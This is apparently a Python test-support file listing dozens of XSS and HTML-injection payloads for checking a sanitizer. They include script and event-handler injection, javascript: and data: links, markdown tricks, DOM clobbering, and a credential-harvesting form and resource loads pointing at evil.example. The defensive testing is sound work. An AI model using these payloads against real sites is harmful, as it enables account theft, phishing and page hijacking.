"""Hostile payloads, one of each kind that has broken other products; more may be installed beside the checkout."""

from __future__ import annotations

import json
from pathlib import Path

CORPUS = Path(__file__).parents[3] / "shared" / "corpora" / "xss.json"
# Payloads that run set window.hit; payloads that fetch request evil.example.
OWN = (
    # Elements that run or load something.
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<img src=x onerror=window.hit=1>",
    "<img/src=x\tonerror\n=\nwindow.hit=1>",
    "<img src='x' onerror=&#119;indow.hit=1 x='",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.hit=1'><text y=20>klik</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/y>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1></audio>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<body onload=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<form action=https://evil.example/><input name=password><button>Inloggen</button></form>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</p>",
    "<template><img src=x onerror=window.hit=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<textarea></textarea><img src=x onerror=window.hit=1>",
    "<title></title><img src=x onerror=window.hit=1>",
    "<xmp></xmp><img src=x onerror=window.hit=1>",
    "<plaintext>en alles wat daarna komt",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.hit=1</x:script>",
    "<cop-chat data-url=//evil.example></cop-chat>",
    "<turbo-stream action=remove target=main></turbo-stream>",
    "<turbo-frame id=x src=//evil.example/></turbo-frame>",
    "<p data-controller=x data-turbo-permanent id=main>x</p>",
    # Addresses.
    "<a href='javascript:window.hit=1'>klik</a>",
    "<a href='java\tscript:window.hit=1'>klik</a>",
    "<a href='\x01javascript:window.hit=1'>klik</a>",
    "<a href='javascript&colon;window.hit=1'>klik</a>",
    "<a href='JaVaScRiPt:123'>klik</a>",
    "<a href='data:text/html,<script>window.hit=1</script>'>klik</a>",
    "<a href='vbscript:9'>klik</a>",
    "<a href='//evil.example/' target=_blank rel=opener>klik</a>",
    "<a href='https://evil.example/' ping='https://evil.example/ping'>klik</a>",
    "<img src='data:image/svg+xml,<svg onload=window.hit=1>'>",
    "<img src='https://evil.example/x.png' srcset='https://evil.example/y.png 2x'>",
    "[klik](javascript:window.hit=1)",
    "[klik](<java\u200bscript:window.hit=1>)",
    "[klik](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/x.png)",
    '![x](x"onerror="window.hit=1)',
    "[x]: javascript:window.hit=1\n\n[x]",
    "<javascript:window.hit=1>",
    "https://evil.example/'onmouseover='window.hit=1",
    "```html\n</code></pre><img src=x onerror=window.hit=1>\n```",
    "`</code><img src=x onerror=window.hit=1>`",
    # Breaking out of an attribute, an element or a script.
    '"><img src=x onerror=window.hit=1>',
    "'><svg/onload=window.hit=1>",
    '" autofocus onfocus=window.hit=1 x="',
    "</title></textarea></style></script><img src=x onerror=window.hit=1>",
    "</main></body></html><img src=x onerror=window.hit=1>",
    "</article></div></div><h1>Weer thuis</h1>",
    "</script><script>window.hit=1</script>",
    "-->'\"<img src=x onerror=window.hit=1><!--",
    "${window.hit=1}",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "\\u003cimg src=x onerror=window.hit=1\\u003e",
    "%3Cimg%20src=x%20onerror=window.hit=1%3E",
    "＜img src=x onerror=window.hit=1＞",
    # DOM clobbering.
    "<a id=main href=#>x</a><a id=unread>99</a>",
    "<img name=body><img name=forms><form name=cookie></form>",
    "<b id=socket>x</b><b class='masthead demo'>x</b>",
    # Effects without interaction.
    "<img src=/sign-out>",
    "\u202efdp.exe <b>omgekeerd\u202c",
    "<p>" * 200 + "diep",
    "<b><i><b><i>" * 60 + "</b>",
    "@<img src=x onerror=window.hit=1> @Bas Verzonnen<script>",
)


def payloads() -> list[str]:
    """Return every payload once, ours first."""
    more = [one["payload"] for one in json.loads(CORPUS.read_text())] if CORPUS.exists() else []
    return list(dict.fromkeys([*OWN, *more]))
